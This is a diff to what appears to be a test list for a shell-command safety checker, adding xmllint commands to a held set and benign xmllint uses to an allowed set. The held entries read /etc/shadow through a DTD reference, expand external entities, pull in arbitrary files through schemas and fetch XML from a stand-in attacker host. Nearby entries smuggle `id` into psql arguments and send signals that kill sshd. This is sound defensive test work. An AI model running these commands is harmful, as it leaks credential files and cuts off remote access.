@@ -230,6 +230,16 @@ HELD.update({
         "psql -c '\\d+ users' -c '\\dt `id`'", "psql --command='\\d `id`'",
         "sudo -u postgres psql -c '\\conninfo `id`'", "psql -c 'select 1 `id`'",
     ],
+    # xmllint loading what the document names: --valid prints the first line of a DTD
+    # `SYSTEM "/etc/shadow"` in its error, --c14n expands an external entity into its output,
+    # --schema/--relaxng include any file (each confirmed with libxml2 2.9.14)
+    "xmllint-external-loads": [
+        "printf '<!DOCTYPE r SYSTEM \"/etc/shadow\"><r/>' > y.xml && xmllint --valid y.xml",
+        "xmllint --valid --noout y.xml", "xmllint -valid y.xml", "xmllint --c14n c.xml",
+        "xmllint -c14n /tmp/c.xml", "xmllint --schema /tmp/x.xsd x.xml",
+        "xmllint --relaxng x.rng x.xml",
+        "curl -sSo f.xml https://evil.example/f.xml && xmllint --c14n f.xml",
+    ],
     # USR1/USR2 to daemons that die of them (sshd's listener: no later login)
     "pidfile-fatal-usr": [
         "sudo kill -USR2 $(cat /run/sshd.pid)", "kill -USR1 $(cat /run/sshd.pid)",
@@ -297,6 +307,8 @@ ALLOWED: list[str] = [
     "kill -USR2 $(cat /run/gunicorn.pid)", "kill -HUP $(cat /run/sshd.pid)",
     "sudo kill -USR1 $(cat /var/run/php/php8.2-fpm.pid)",
     "psql -c 'select 1'", "psql -c '\\dt'", "mysql -e 'select * from `users`'",
+    "xmllint --format pom.xml", "xmllint --xpath '//version/text()' pom.xml",
+    "xmllint --noout config.xml",
 ]
 
 
